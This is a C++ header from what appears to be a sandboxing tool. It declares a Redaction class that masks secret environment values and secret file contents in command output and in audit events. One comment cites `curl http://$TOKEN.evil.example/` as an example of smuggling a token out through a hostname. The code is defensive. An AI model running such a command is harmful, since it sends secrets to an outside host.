// Output redaction for one run: the redactor (redact/redactor.h) over the built-in rules, the policy's user
// rules and the exact secret values — the values of the caller's secret-looking environment variables and the
// contents of the secret files the sandbox may not read (deny-read files, hidden .env files). Built when the
// first output arrives — a command that prints nothing pays nothing —, with the values compiled or loaded from
// the cache of compiled values in the caller's runtime directory ($XDG_RUNTIME_DIR/cordon, /run/cordon for
// root: memory-backed; no cache without one, since the cached databases contain the values). Parent side.
#pragma once

#include <map>
#include <memory>
#include <string>
#include <vector>

#include "audit/event_log.h"
#include "base/result.h"
#include "linux/output.h"
#include "plan/launch_plan.h"
#include "redact/redactor.h"

namespace cordon::linux_backend {

class Redaction {
 public:
  Redaction() = default;
  Redaction(const Redaction&) = delete;
  Redaction& operator=(const Redaction&) = delete;
  // Loads the plan's user rule files (an error names FILE:LINE) and notes where the secret values come from.
  // `hidden_files`: files the sandbox cannot read besides the plan's deny rules. `events` gets the
  // "output.redacted" events (it must outlive the run).
  Status Start(const plan::LaunchPlan& plan, const std::vector<std::string>& hidden_files, audit::EventSink& events);
  // A filter for one stream ("stdout", "stderr"); its first use waits for the redactor.
  std::unique_ptr<OutputFilter> Filter(const std::string& stream);
  // The redactor could not be built: the run's output was withheld. Empty when all went well, and when no output
  // needed the redactor (nothing was withheld).
  const std::string& failure() const;
  // "output.redacted" events, counts only, never the text: one as soon as a rule first matches on a stream (the
  // count so far: alert rules can act while the command runs), and at the end of the run one for the matches
  // since (Report). The counts of one stream and rule add up to its total.
  void ReportNew(const std::string& stream, const redact::Stream& s);
  void Report();

  // Builds the redactor on first use; nullptr when that failed (see failure()).
  const redact::Redactor* redactor();

  // Text cordon itself reports that the command chose (a host name it asked the proxy for: `curl
  // http://$TOKEN.evil.example/` must not carry the token out in a refusal line or an event): redacted like the
  // output, and a secret value found in any letter case (names arrive lowercased) becomes a marker too. If the
  // redactor cannot be built, the whole text is withheld.
  std::string Scrub(const std::string& text);

 private:
  std::vector<redact::Rule> user_rules_;  // loaded (and checked) at Start; the built-in ones come at first use
  std::vector<std::string> known_values_;  // the plan's
  std::vector<std::string> files_;         // whose contents are secret values
  std::vector<std::string> lowered_;       // the secret values' lines in lower case, for Scrub
  bool needed_ = false;                    // redactor() was called
  std::unique_ptr<redact::Redactor> redactor_;
  std::string failure_;
  std::vector<std::pair<std::string, OutputFilter*>> filters_;  // owned by the pumps, which outlive Report
  audit::EventSink* events_ = nullptr;
  std::map<std::string, std::map<std::string, uint64_t>> reported_;  // stream -> rule -> count in events
};

// The secret values the redactor looks for, without duplicates: the plan's (the caller's secret-looking
// environment values) and the contents of the given files (regular files up to 64 KiB, or the files directly
// inside a given directory; 1 MiB in all).
std::vector<std::string> SecretValues(const std::vector<std::string>& values, const std::vector<std::string>& files);

}  // namespace cordon::linux_backend
